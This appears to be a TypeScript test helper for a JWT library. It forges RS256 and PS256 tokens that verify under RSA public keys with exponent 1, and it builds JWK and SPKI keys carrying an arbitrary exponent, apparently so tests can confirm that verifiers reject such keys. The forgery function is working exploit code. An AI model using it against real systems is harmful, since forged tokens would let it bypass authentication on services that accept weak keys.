// Forging RS256 and PS256 tokens for an RSA public key with exponent 1, from public data only: with
// e = 1, s^e mod n is s, so the encoded message itself (RFC 8017 §9.2, §9.1.1) passes as its signature.
import { createHash, createPublicKey, randomBytes, type JsonWebKey, type KeyObject } from 'node:crypto';
import { b64 } from '../helpers.js';

const sha256 = (...parts: Uint8Array[]): Buffer => {
  const hash = createHash('sha256');
  for (const part of parts) hash.update(part);
  return hash.digest();
};

// RFC 8017 §9.2 note 1: the DER DigestInfo prefix of SHA-256.
const SHA256_DIGEST_INFO = Buffer.from('3031300d060960864801650304020105000420', 'hex');

/** EMSA-PKCS1-v1_5 (RFC 8017 §9.2) of `message` for a modulus of `k` bytes. */
function pkcs1Encoding(message: Buffer, k: number): Buffer {
  const t = Buffer.concat([SHA256_DIGEST_INFO, sha256(message)]);
  return Buffer.concat([Buffer.from([0, 1]), Buffer.alloc(k - t.length - 3, 0xff), Buffer.from([0]), t]);
}

function mgf1(seed: Buffer, length: number): Buffer {
  const blocks: Buffer[] = [];
  for (let counter = 0; blocks.length * 32 < length; counter++) {
    const c = Buffer.alloc(4);
    c.writeUInt32BE(counter);
    blocks.push(sha256(seed, c));
  }
  return Buffer.concat(blocks).subarray(0, length);
}

/** EMSA-PSS (RFC 8017 §9.1.1) of `message` with SHA-256, MGF1-SHA-256, a 32-byte salt, emBits = modBits - 1. */
function pssEncoding(message: Buffer, modBits: number): Buffer {
  const emLen = Math.ceil((modBits - 1) / 8);
  const salt = randomBytes(32);
  const h = sha256(Buffer.alloc(8), sha256(message), salt);
  const db = Buffer.concat([Buffer.alloc(emLen - 32 - 32 - 2), Buffer.from([1]), salt]);
  const masked = Buffer.from(db.map((byte, i) => byte ^ (mgf1(h, db.length)[i] as number)));
  masked[0] = (masked[0] as number) & (0xff >> (8 * emLen - (modBits - 1)));
  return Buffer.concat([masked, h, Buffer.from([0xbc])]);
}

/** A token for `claims` that verifies under any RSA public key of `modBits` bits whose exponent is 1. */
export function forgeForExponentOne(
  alg: 'RS256' | 'PS256',
  claims: Record<string, unknown>,
  kid?: string,
  modBits = 2048,
): string {
  const input = `${b64({ alg, typ: 'JWT', ...(kid === undefined ? {} : { kid }) })}.${b64(claims)}`;
  const k = Math.ceil(modBits / 8);
  const em =
    alg === 'RS256' ? pkcs1Encoding(Buffer.from(input), k) : pssEncoding(Buffer.from(input), modBits);
  // I2OSP to k bytes: the signature is as long as the modulus.
  const signature = Buffer.concat([Buffer.alloc(k - em.length), em]);
  return `${input}.${b64(signature)}`;
}

/** The unsigned big-endian bytes of `value`, as JWK members carry them (RFC 7518 §2). */
export function uintBytes(value: bigint): Buffer {
  const hex = value.toString(16);
  return Buffer.from(hex.length % 2 === 0 ? hex : `0${hex}`, 'hex');
}

/** The public JWK of `pem`'s modulus with exponent `e`. */
export function rsaJwkWithExponent(pem: string, e: bigint): JsonWebKey {
  const { n } = createPublicKey(pem).export({ format: 'jwk' });
  return { kty: 'RSA', n: n as string, e: uintBytes(e).toString('base64url') };
}

// DER: a tag, its length (short or long form), its content.
function tlv(tag: number, content: Buffer): Buffer {
  const len = uintBytes(BigInt(content.length));
  const header = content.length < 0x80 ? [tag, content.length] : [tag, 0x80 | len.length, ...len];
  return Buffer.concat([Buffer.from(header), content]);
}

function derInteger(value: bigint): Buffer {
  const bytes = uintBytes(value);
  return tlv(0x02, (bytes[0] as number) & 0x80 ? Buffer.concat([Buffer.from([0]), bytes]) : bytes);
}

/**
 * The SPKI of `key` (RSA or RSA-PSS with its parameters, a 2048-bit modulus) with exponent `e`:
 * `SEQUENCE { algorithm, BIT STRING { SEQUENCE { INTEGER n, INTEGER e } } }` (RFC 4055 §1.2, RFC 8017 A.1.1).
 */
export function spkiWithExponent(key: KeyObject, e: bigint): KeyObject {
  const der = key.export({ format: 'der', type: 'spki' });
  // Every length here but the algorithm's is long form (0x82 and two bytes).
  const algorithm = der.subarray(4, 4 + 2 + (der[5] as number));
  const at = 4 + algorithm.length + 5 + 4; // the modulus INTEGER: after the BIT STRING's and the SEQUENCE's headers
  const n = der.subarray(at + 4, at + 4 + der.readUInt16BE(at + 2));
  const rsaPublicKey = tlv(0x30, Buffer.concat([tlv(0x02, n), derInteger(e)]));
  const bits = tlv(0x03, Buffer.concat([Buffer.from([0]), rsaPublicKey]));
  return createPublicKey({ key: tlv(0x30, Buffer.concat([algorithm, bits])), format: 'der', type: 'spki' });
}
